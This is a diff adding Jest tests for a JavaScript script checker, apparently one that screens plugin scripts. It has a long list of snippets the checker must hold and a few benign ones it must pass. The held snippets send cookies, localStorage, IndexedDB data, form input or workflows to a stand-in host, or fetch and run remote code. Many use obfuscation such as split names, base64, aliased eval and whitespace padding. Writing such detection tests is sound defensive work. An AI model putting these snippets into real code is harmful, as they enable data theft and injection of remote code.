@@ -1,0 +1,93 @@
+import { describe, expect, it } from '@jest/globals';
+import { checkScript } from '../../src/analysis/checks/javascript.js';
+
+const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');
+
+describe('the checks hold a script', () => {
+  it.each<[string, string]>([
+    [
+      'that sends a database through a socket',
+      `const r = indexedDB.open("a");
+       r.onsuccess = () => {
+         const db = r.result;
+         const ws = new WebSocket("wss://e.example/");
+         ws.onopen = () => { db.transaction("a").objectStore("a").getAll().onsuccess = (e) => ws.send(e.target.result); };
+       };`,
+    ],
+    ['that sends a callback’s argument', 'indexedDB.databases().then((l) => fetch("https://e.example", { body: l }));'],
+    [
+      'that names storage and sender in pieces',
+      'const s = window["local" + "Storage"]; navigator["send" + "Beacon"]("//e.example/b", JSON.stringify(s));',
+    ],
+    [
+      'that joins the name of the storage',
+      'const s = Reflect.get(window, ["local", "Storage"].join("")); fetch("https://e.example", { body: s });',
+    ],
+    [
+      'that joins the address',
+      'const { localStorage: l } = window; const u = ["https:/", "e.example"].join("/"); fetch(u, { body: l.getItem("a") });',
+    ],
+    [
+      'that gives `fetch` another name',
+      'const send = window.fetch.bind(window); send("https://e.example/", { body: document.cookie });',
+    ],
+    ['that decodes the name of a property', 'const s = window[atob("bG9jYWxTdG9yYWdl")]; fetch("/a", { body: s.a });'],
+    ['that sends in a property', 'const i = new Image(); i["src"] = "https://e.example/?" + document.cookie;'],
+    ['that sends with the ping of a link', 'a.ping = "https://e.example/?" + document["coo" + "kie"]; a.click();'],
+    [
+      'that names a channel by a secret',
+      'const p = new RTCPeerConnection({ u: "stun:e.example" }); p.createDataChannel(localStorage.getItem("a"));',
+    ],
+    [
+      'that sends what the user enters',
+      'document.querySelectorAll("input").forEach((i) => { navigator.sendBeacon("https://e.example", i.value); });',
+    ],
+    ['that calls eval indirectly', 'fetch("https://e.example/p").then((r) => r.text()).then((t) => (0, eval)(t));'],
+    ['that passes eval on', 'fetch("https://e.example/p").then((r) => r.text()).then(eval);'],
+    ['that gives eval another name', 'const e = eval; fetch("https://e.example/p").then((r) => r.text()).then(e);'],
+    ['that evaluates a decoded text', 'self["eval"](atob("YWxlcnQoMSk="));'],
+    ['that makes a function of an answer', 'new Function(await fetch("/p").then((r) => r.text()))();'],
+    [
+      'that makes an asynchronous function of an answer',
+      'const F = (async () => {}).constructor; const r = await fetch("https://e.example/p"); F(await r.text())();',
+    ],
+    ['that writes a script element', 'document.write("<script src=//e.example/p.js></" + "script>");'],
+    [
+      'that sets the source of a script as an attribute',
+      'const s = document.createElement("script"); s.setAttribute("src", "https://e.example/p.js");',
+    ],
+    [
+      'that fills a script element with an answer',
+      'const s = document.createElement("script"); s.textContent = await (await fetch("https://e.example/p")).text();',
+    ],
+    [
+      'that imports an answer',
+      'const b = new Blob([await (await fetch("https://e.example/p")).text()], { type: "text/javascript" }); import(URL.createObjectURL(b));',
+    ],
+    [
+      'that sends each workflow',
+      'const q = api.queuePrompt; api.queuePrompt = async (n, p) => { fetch("https://e.example/w", { body: p }); return q(n, p); };',
+    ],
+    ['that is long because of spaces', `${' '.repeat(70_000)}\nconst e = eval; fetch("https://e.example/p").then(e);`],
+  ])('%s', (_what, source) => expect(isHeld(source)).toBe(true));
+});
+
+describe('the checks do not hold a script', () => {
+  const news = 'fetch("https://api.github.com/repos/a/b/releases").then((r) => r.json()).then(show);\n';
+
+  it.each<[string, string]>([
+    ['with a method that is called eval', `${news}class E { exec(x) { return x; } eval(x) { return this.exec(x); } }`],
+    [
+      'that stores its own settings',
+      `${news}localStorage.setItem("a", JSON.stringify({ theme: localStorage.theme }));`,
+    ],
+    ['that replaces a method of the client', `${news}api.queuePrompt = async (n, p) => { mark(p); return q(n, p); };`],
+    ['that loads its own script', `${news}const s = document.createElement("script"); s.src = "./a.js";`],
+    ['that fills a style element', `${news}const s = document.createElement("style"); s.textContent = css;`],
+    [
+      'that reads the input of a dialog',
+      'const i = dialog.querySelector("input"); api.fetchApi("/a", { body: i.value });',
+    ],
+    ['that indexes a list', 'const c = colors["red"]; const m = window["app"]; m.draw(c);'],
+  ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
+});
